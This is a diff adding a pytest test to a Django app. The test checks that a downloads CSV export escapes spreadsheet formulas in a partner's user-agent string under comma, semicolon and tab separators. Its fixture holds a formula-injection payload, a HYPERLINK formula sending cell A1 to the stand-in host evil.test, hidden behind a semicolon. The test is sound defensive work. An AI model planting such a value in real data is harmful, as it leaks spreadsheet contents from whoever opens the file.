@@ -88,6 +88,26 @@ def test_the_download_export_lists_each_access_with_its_user_and_quoted_user_age
 
 
 @pytest.mark.django_db
+@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
+def test_a_partner_user_agent_stays_text_whatever_separator_the_spreadsheet_uses(manager_client, released, separator):
+    reader = released["reader"]
+    services.record_access(
+        access=partner_access(reader),
+        user=reader,
+        advisory=released["advisory"],
+        kind=AccessKind.VIEW,
+        user_agent='x;=HYPERLINK("http://evil.test/?leak="&A1,"Update")',
+    )
+    response = manager_client.get(reverse("program:downloads_csv"), {"advisory": released["advisory"].identifier})
+    body = b"".join(response.streaming_content).decode()
+
+    cells = [cell.lstrip(' "') for row in csv.reader(io.StringIO(body), delimiter=separator) for cell in row]
+
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert any("'=HYPERLINK(" in cell for cell in cells)
+
+
+@pytest.mark.django_db
 def test_the_download_export_of_another_advisory_is_empty(manager_client, released):
     other = AdvisoryFactory()
 
